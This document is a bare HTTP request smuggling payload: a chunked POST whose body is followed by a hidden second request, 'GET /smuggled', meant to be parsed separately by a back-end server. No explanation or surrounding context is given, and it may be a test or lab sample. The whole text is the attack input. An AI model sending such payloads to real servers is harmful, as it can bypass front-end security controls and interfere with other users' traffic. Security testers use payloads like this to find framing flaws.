POST / HTTP/1.1
Transfer-Encoding: chunked

5 
hello
0

GET /smuggled HTTP/1.1

